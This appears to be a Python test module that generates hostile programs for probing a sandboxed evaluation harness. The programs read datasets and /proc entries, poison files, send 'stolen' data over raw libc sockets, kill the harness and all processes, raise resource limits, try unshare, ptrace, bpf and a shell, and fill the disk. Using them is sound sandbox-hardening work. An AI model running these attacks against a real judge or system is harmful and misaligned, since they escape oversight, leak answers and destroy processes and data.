"""Hostile programs aimed at the judge, built from the targets a test hands them.

Each attack is a world model whose ``__init__`` tries a list of things and raises one
``RuntimeError`` listing ``label=OPEN`` for what worked and ``label=denied(ERRNO)`` or
``label=failed(Exception)`` for what did not; :func:`results` parses that message. The
attacker is given the exact targets (the harness's pid, the dataset's path, a listener's
port), which is stronger than having to find them.
"""

from __future__ import annotations

import re

PRELUDE = """
import ctypes
import errno
import os
import signal

RESULTS = []


def attempt(label, action):
    try:
        action()
        RESULTS.append(f"{label}=OPEN")
    except OSError as exc:
        RESULTS.append(f"{label}=denied({errno.errorcode.get(exc.errno, exc.errno)})")
    except Exception as exc:
        RESULTS.append(f"{label}=failed({type(exc).__name__})")


def read(path):
    with open(path, "rb") as handle:
        return handle.read(64)


def append(path, data=b"# poisoned\\n"):
    with open(path, "ab") as handle:
        handle.write(data)


def create(path, data=b"poison"):
    with open(path, "xb") as handle:
        handle.write(data)


def libc_call(name, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    result = getattr(libc, name)(*args)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result
"""

EPILOGUE = """

class Environment:
    def __init__(self):
        attack()
        raise RuntimeError("RESULTS " + " ".join(RESULTS))

    def set_state(self, state):
        pass

    def step(self, action):
        return 0, 0.0, False
"""

_RESULT = re.compile(r"(\w[\w.-]*)=(OPEN|denied\(\w+\)|failed\(\w+\))")


def program(body: str) -> str:
    """A world model running ``body`` (which defines ``attack()``) and reporting each attempt."""
    return PRELUDE + body + EPILOGUE


def results(message: str) -> dict[str, str]:
    """``{label: "OPEN" | "denied(EACCES)" | ...}`` parsed from an attack's error message."""
    assert "RESULTS" in message, message
    return dict(_RESULT.findall(message))


def opened(message: str) -> list[str]:
    """The labels of every attempt that worked."""
    return [label for label, result in results(message).items() if result == "OPEN"]


def read_answers(paths: dict[str, str]) -> str:
    """Try to read each file: datasets, package sources, the harness's /proc entries."""
    lines = [f"    attempt({label!r}, lambda: read({path!r}))" for label, path in paths.items()]
    return "def attack():\n" + "\n".join(lines) + "\n"


def poison(files: dict[str, str], new_files: dict[str, str]) -> str:
    """Try to append to each of ``files`` and to create each of ``new_files``."""
    lines = [f"    attempt({label!r}, lambda: append({path!r}))" for label, path in files.items()]
    lines += [f"    attempt({label!r}, lambda: create({path!r}))" for label, path in new_files.items()]
    return "def attack():\n" + "\n".join(lines) + "\n"


def network(tcp_port: int, udp_port: int, unix_path: str) -> str:
    """Try TCP, UDP, IPv6, raw and Unix sockets towards listeners the test started.

    Through libc (ctypes), as a determined program would when ``socket`` is not importable.
    """
    return f"""
import struct

AF_UNIX, AF_INET, AF_INET6 = 1, 2, 10
SOCK_STREAM, SOCK_DGRAM, SOCK_RAW = 1, 2, 3


def inet(port, address=b"\\x7f\\x00\\x00\\x01"):
    raw = struct.pack("<H", AF_INET) + struct.pack(">H", port) + address + bytes(8)
    return ctypes.create_string_buffer(raw, 16)


def connect(family, kind, address, size):
    fd = libc_call("socket", family, kind, 0)
    try:
        libc_call("connect", fd, address, size)
        libc_call("send", fd, b"stolen", 6, 0)
    finally:
        os.close(fd)


def tcp():
    connect(AF_INET, SOCK_STREAM, inet({tcp_port}), 16)


def udp():
    fd = libc_call("socket", AF_INET, SOCK_DGRAM, 0)
    try:
        libc_call("sendto", fd, b"stolen", 6, 0, inet({udp_port}), 16)
    finally:
        os.close(fd)


def tcp6():
    loopback6 = bytes(15) + b"\\x01"
    address = struct.pack("<H", AF_INET6) + struct.pack(">H", {tcp_port}) + bytes(4) + loopback6 + bytes(4)
    connect(AF_INET6, SOCK_STREAM, ctypes.create_string_buffer(address, 28), 28)


def raw():
    os.close(libc_call("socket", AF_INET, SOCK_RAW, 1))


def unix():
    path = {unix_path!r}.encode()
    address = ctypes.create_string_buffer(struct.pack("<H", AF_UNIX) + path + bytes(108 - len(path)), 110)
    connect(AF_UNIX, SOCK_STREAM, address, 110)


def attack():
    for action in (tcp, udp, tcp6, raw, unix):
        attempt(action.__name__, action)
"""


def signals(pids: dict[str, int]) -> str:
    """Try to SIGSTOP and SIGKILL each pid, its process group, and everything (-1 and 0)."""
    lines = []
    for label, pid in pids.items():
        lines.append(f"    attempt('stop-{label}', lambda: os.kill({pid}, signal.SIGSTOP))")
        lines.append(f"    attempt('kill-{label}', lambda: os.kill({pid}, signal.SIGKILL))")
        lines.append(f"    attempt('killpg-{label}', lambda: os.killpg({pid}, signal.SIGKILL))")
    lines.append("    attempt('kill-parent', lambda: os.kill(os.getppid() or 1, signal.SIGKILL))")
    return "def attack():\n" + "\n".join(lines) + "\n"


KILL_EVERYTHING = """
def attack():
    for pid in range(2, 4096):
        try:
            os.kill(pid, signal.SIGSTOP)
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    attempt("kill-all", lambda: os.kill(-1, signal.SIGKILL))
    attempt("kill-group", lambda: os.kill(0, signal.SIGKILL))
"""

RAISE_LIMITS = """
import resource

INFINITY = resource.RLIM_INFINITY


def raise_limit(which):
    resource.setrlimit(which, (INFINITY, INFINITY))


def attack():
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_NPROC"):
        attempt(name, lambda: raise_limit(getattr(resource, name)))
    attempt("prlimit-AS", lambda: libc_call("prlimit", 0, resource.RLIMIT_AS,
                                            ctypes.byref((ctypes.c_ulong * 2)(2**62, 2**62)), None))
"""

KERNEL_SURFACE = """
CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x40000000, 0x00020000, 17
PTRACE_ATTACH = 16


def ptrace_own_child():
    pid = os.fork()
    if pid == 0:
        signal.pause()
        os._exit(0)
    try:
        libc_call("ptrace", PTRACE_ATTACH, pid, None, None)
    finally:
        os.kill(pid, signal.SIGKILL)


def attack():
    attempt("unshare-user", lambda: libc_call("unshare", CLONE_NEWUSER))
    attempt("unshare-net", lambda: libc_call("unshare", CLONE_NEWNET))
    attempt("clone-newuser", lambda: libc_call("syscall", 56 if os.uname().machine == "x86_64" else 220,
                                               CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0))
    attempt("mount-tmpfs", lambda: libc_call("mount", b"none", b".", b"tmpfs", 0, None))
    attempt("ptrace-child", ptrace_own_child)
    attempt("exec-shell", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "true"], {}))
    attempt("keyctl", lambda: libc_call("syscall", 250 if os.uname().machine == "x86_64" else 219, 0, 0, 0))
    attempt("bpf", lambda: libc_call("syscall", 321 if os.uname().machine == "x86_64" else 280, 0, 0, 0))
    attempt("sysv-shm", lambda: libc_call("shmget", 0, 4096, 0o1666))
    attempt("open-dev-shm", lambda: create("/dev/shm/cwmb-attack"))
    attempt("proc-listing", lambda: os.listdir("/proc") or None)
"""

FILL_DISK = """
def big_files():
    block = b"x" * (1 << 20)
    for i in range(16):  # 16 files of 12 MB: each under RLIMIT_FSIZE, 192 MB in all
        with open(f"big{i}", "wb") as handle:
            for _ in range(12):
                handle.write(block)
                handle.flush()


def many_files():
    os.mkdir("many")
    for i in range(5000):
        with open(f"many/{i}", "wb") as handle:
            handle.write(b"x")


def attack():
    attempt("write-192MB", big_files)
    attempt("write-5000-files", many_files)
"""
